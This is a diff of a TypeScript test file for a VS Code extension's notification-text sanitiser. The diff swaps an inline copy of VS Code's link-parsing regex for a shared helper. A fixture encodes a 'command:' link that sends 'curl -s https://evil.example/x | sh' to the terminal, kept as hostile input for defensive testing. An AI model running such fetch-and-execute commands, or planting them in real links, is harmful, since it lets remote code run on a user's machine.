@@ -1,20 +1,7 @@
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
 import { inertNotificationText, NOTIFICATION_VALUE_LENGTH } from '../../../src/core/notificationText';
-
-/**
- * VS Code 1.100.3's own parser of links in notification messages (vs/base/common/linkedText.ts, as
- * shipped in workbench.js: `var rcs=/…/gi`). The notification cuts the message at 1,000 characters
- * and turns line breaks into spaces before it applies this; a clicked link opens with commands allowed.
- */
-// eslint-disable-next-line no-useless-escape -- copied as VS Code ships it
-const VSCODE_LINK_PATTERN = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
-
-/** The links VS Code would make of a message, after its own preparation of the text. */
-function linksIn(message: string): string[] {
-  const prepared = (message.length > 1000 ? `${message.slice(0, 1000)}...` : message).replace(/(\r\n|\n|\r)/gm, ' ').trim();
-  return [...prepared.matchAll(VSCODE_LINK_PATTERN)].map((match) => match[2]);
-}
+import { vscodeLinksIn as linksIn } from '../../support/vscodeLinks';
 
 const commandHref = `command:workbench.action.terminal.sendSequence?${encodeURIComponent(JSON.stringify({ text: 'curl -s https://evil.example/x | sh\n' }))}`;
 const HOSTILE = [
